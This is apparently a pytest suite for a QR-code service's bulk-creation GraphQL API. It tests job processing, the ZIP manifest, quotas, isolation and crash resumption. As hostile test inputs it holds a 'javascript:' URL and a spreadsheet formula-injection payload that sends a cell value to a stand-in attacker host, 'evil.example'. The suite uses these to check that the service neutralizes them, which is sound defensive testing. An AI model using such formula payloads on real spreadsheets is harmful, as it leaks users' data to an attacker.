"""Bulk creation end to end: the mutation, the worker, the ZIP, the one-time download."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import httpx
import pytest
import zxingcpp
from PIL import Image

from app.domain.bulk import runner
from app.domain.bulk.models import BulkItem, BulkJob
from app.domain.codes.models import QrCode
from app.domain.codes.services import CodeDeps
from app.domain.workspaces.models import Workspace
from app.graphql.relay import to_global_id
from app.rendering.pool import render_many
from workers.sheets import open_sheet

SUBMIT = """mutation($input: BulkCreateQrCodesInput!) { bulkCreateQrCodes(input: $input) {
  bulkJob { id status total } userErrors { field code message } } }"""
JOB = """query($id: ID!) { bulkJob(id: $id) { id status total processed succeeded failed
  errors { index field message code } resultUrl finishedAt } }"""


def url_item(i: int) -> dict[str, Any]:
    return {
        "name": f"Box {i}",
        "dataType": "URL",
        "kind": "DYNAMIC",
        "data": {"url": f"https://shop.example/item/{i}"},
    }


ITEMS = [
    url_item(0),
    {"name": "Note", "dataType": "TEXT", "data": {"text": "Handle with care"}},
    {
        "name": "Wifi",
        "dataType": "WIFI",
        "data": {"ssid": "Lobby", "password": "pa;ss:word", "encryption": "WPA"},
    },
    url_item(3),
]


async def submit(gql, key, **input) -> dict[str, Any]:
    body = await gql(key, SUBMIT, input={"items": ITEMS, **input})
    return body["data"]["bulkCreateQrCodes"]


def decoded(image: bytes) -> str:
    results = zxingcpp.read_barcodes(Image.open(io.BytesIO(image)).convert("RGB"))
    assert len(results) == 1
    return str(results[0].text)


async def test_a_bulk_job_creates_codes_and_a_zip_that_downloads_once(
    gql, key, run_jobs, client: httpx.AsyncClient
) -> None:
    payload = await submit(gql, key)
    assert payload["userErrors"] == []
    assert payload["bulkJob"]["status"] == "QUEUED" and payload["bulkJob"]["total"] == 4
    await run_jobs()

    job = (await gql(key, JOB, id=payload["bulkJob"]["id"]))["data"]["bulkJob"]
    assert (job["status"], job["processed"], job["succeeded"], job["failed"]) == (
        "SUCCEEDED",
        4,
        4,
        0,
    )
    assert job["finishedAt"] and job["resultUrl"].startswith("http://testserver/bulk/")

    response = await client.get(job["resultUrl"].removeprefix("http://testserver"))
    assert response.status_code == 200 and response.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert [r["index"] for r in rows] == ["0", "1", "2", "3"]
    codes = {to_global_id("QrCode", c.id): c for c in await QrCode.all().select_related("link")}
    assert len(codes) == 4
    for row in rows:
        code = codes[row["id"]]
        assert decoded(archive.read(row["file"])) == code.encoded_text
        assert (row["name"], row["kind"], row["dataType"]) == (code.name, code.kind, code.data_type)
    dynamic = next(r for r in rows if r["index"] == "0")
    assert dynamic["destination"] == "https://shop.example/item/0"
    assert decoded(archive.read(dynamic["file"])) == dynamic["shortUrl"] + "?qr=1"
    assert dynamic["file"].endswith(".png")

    again = await client.get(job["resultUrl"].removeprefix("http://testserver"))
    assert again.status_code == 410
    job = (await gql(key, JOB, id=payload["bulkJob"]["id"]))["data"]["bulkJob"]
    assert job["resultUrl"] is None


async def test_invalid_items_are_listed_while_valid_ones_are_created(gql, key, run_jobs) -> None:
    items = [
        url_item(0),
        {"name": "Bad", "dataType": "URL", "data": {"url": "javascript:alert(1)"}},
        {"name": "", "dataType": "WIFI", "data": {"ssid": "x" * 40}},
        url_item(3),
    ]
    payload = (await gql(key, SUBMIT, input={"items": items}))["data"]["bulkCreateQrCodes"]
    await run_jobs()
    job = (await gql(key, JOB, id=payload["bulkJob"]["id"]))["data"]["bulkJob"]
    assert (job["status"], job["succeeded"], job["failed"], job["processed"]) == (
        "SUCCEEDED",
        2,
        2,
        4,
    )
    by_index = {}
    for error in job["errors"]:
        by_index.setdefault(error["index"], []).append(error)
    assert sorted(by_index) == [1, 2]
    assert by_index[1][0]["field"] == "data.url" and by_index[1][0]["code"] == "INVALID_URL"
    assert {e["field"] for e in by_index[2]} >= {"name", "data.ssid"}
    assert await QrCode.all().count() == 2


async def test_the_same_idempotency_key_returns_the_same_job(gql, key) -> None:
    first = await submit(gql, key, idempotencyKey="labels-2026-11")
    second = await submit(gql, key, idempotencyKey="labels-2026-11")
    assert first["bulkJob"]["id"] == second["bulkJob"]["id"]
    assert await BulkJob.all().count() == 1


@pytest.mark.parametrize(
    ("input", "code"),
    [
        ({"items": []}, "INVALID_ITEMS"),
        (
            {"items": [{"name": "n", "dataType": "TEXT", "data": {"text": "x"}}] * 10_001},
            "INVALID_ITEMS",
        ),  # fmt: skip
        ({"items": ITEMS, "size": 10}, "INVALID_SIZE"),
        ({"items": ITEMS, "size": 99999}, "INVALID_SIZE"),
    ],
)
async def test_bad_submissions_store_nothing(gql, key, input, code) -> None:
    payload = (await gql(key, SUBMIT, input=input))["data"]["bulkCreateQrCodes"]
    assert payload["bulkJob"] is None and payload["userErrors"][0]["code"] == code
    assert await BulkJob.all().count() == 0


async def test_bulk_items_count_against_the_daily_quota(gql, key) -> None:
    await Workspace.filter(name="acme").update(bulk_items_per_day=6)
    assert (await submit(gql, key))["userErrors"] == []
    refused = await submit(gql, key)
    assert refused["userErrors"][0]["code"] == "QUOTA_EXCEEDED"


async def test_another_workspace_cannot_see_the_job(gql, key, make_key) -> None:
    payload = await submit(gql, key)
    other = await make_key("globex")
    body = await gql(other, JOB, id=payload["bulkJob"]["id"])
    assert body["data"]["bulkJob"] is None


class CrashingEvents:
    """Stands in for a worker that dies: the n-th event emitted raises."""

    def __init__(self, crash_at: int) -> None:
        self.count, self.crash_at = 0, crash_at

    async def emit(self, type: str, workspace_id: int, data: dict[str, Any]) -> None:
        self.count += 1
        if self.count == self.crash_at:
            raise RuntimeError("worker died")


async def test_a_job_interrupted_mid_batch_resumes_without_duplicates(gql, key, app) -> None:
    items = [url_item(i) for i in range(150)]
    payload = (await gql(key, SUBMIT, input={"items": items}))["data"]["bulkCreateQrCodes"]
    job = await BulkJob.get()

    def deps(events: Any) -> runner.BulkDeps:
        return runner.BulkDeps(
            events=app.state.services.events,
            codes=CodeDeps(
                events=events,
                public_url="http://testserver",
                check_render=False,
                check_quotas=False,
            ),
            data_dir=app.state.services.settings.data_dir,
            render_many=render_many,
            global_id=lambda t, pk: str(to_global_id(t, pk)),
            results=app.state.services.results,
            open_sheet=open_sheet,
        )

    # Dies inside the second batch: the first batch (100 codes) is committed, the rest not.
    with pytest.raises(RuntimeError, match="worker died"):
        await runner.run(job.id, deps(CrashingEvents(crash_at=130)), last_try=False)
    await job.refresh_from_db()
    made = await BulkItem.filter(job_id=job.id, code_id__isnull=False).count()
    assert job.status == "RUNNING" and made == 100
    assert await QrCode.all().count() == 100

    await runner.run(job.id, deps(app.state.services.events))
    await job.refresh_from_db()
    assert job.status == "SUCCEEDED" and job.succeeded == 150
    assert await QrCode.all().count() == 150
    assert len({c.encoded_text for c in await QrCode.all()}) == 150
    assert payload["bulkJob"]["total"] == 150


async def test_bulk_job_updated_reports_every_batch_and_the_end(gql, key, app, run_jobs) -> None:
    import asyncio

    from app.domain.workspaces.services import authenticate
    from app.graphql.context import Context
    from app.graphql.schema import build_schema

    items = [url_item(i) for i in range(150)]
    payload = (await gql(key, SUBMIT, input={"items": items}))["data"]["bulkCreateQrCodes"]
    context = Context(
        request=None,
        response=None,
        services=app.state.services,  # type: ignore[arg-type]
        principal=await authenticate(key),
    )
    schema = build_schema()
    stream = await schema.subscribe(
        "subscription($id: ID!) { bulkJobUpdated(id: $id) { status processed } }",
        variable_values={"id": payload["bulkJob"]["id"]},
        context_value=context,
    )
    first = await anext(stream)
    assert first.data["bulkJobUpdated"] == {"status": "QUEUED", "processed": 0}

    async def collect() -> list[dict[str, Any]]:
        return [result.data["bulkJobUpdated"] async for result in stream]

    collecting = asyncio.create_task(collect())
    await asyncio.sleep(0.2)  # let the subscription listen before the worker starts
    await run_jobs()
    updates = await asyncio.wait_for(collecting, 10)
    assert updates[-1] == {"status": "SUCCEEDED", "processed": 150}
    assert {"status": "RUNNING", "processed": 100} in updates


async def test_items_with_numbers_past_64_bits_are_answered_not_crashed(gql, key) -> None:
    # The GraphQL fuzzer's find: a JSON value orjson refuses made submit a 500.
    item = {"name": "n", "dataType": "URL", "data": {"url": 2**70}, "kind": "STATIC"}
    body = await gql(key, SUBMIT, input={"items": [item, item], "format": "PNG"})
    assert "errors" not in body, body


async def test_issue10_manifest_cells_never_run_as_spreadsheet_formulas(
    gql, key, run_jobs, client: httpx.AsyncClient
) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    items = [{**url_item(0), "name": evil}, {**url_item(1), "name": "@SUM(1+1)"}]
    payload = (await gql(key, SUBMIT, input={"items": items}))["data"]["bulkCreateQrCodes"]
    assert payload["userErrors"] == []
    await run_jobs()
    job = (await gql(key, JOB, id=payload["bulkJob"]["id"]))["data"]["bulkJob"]
    response = await client.get(job["resultUrl"].removeprefix("http://testserver"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert [r["name"] for r in rows] == ["'" + evil, "'@SUM(1+1)"]
    assert decoded(archive.read(rows[0]["file"])) == rows[0]["shortUrl"] + "?qr=1"
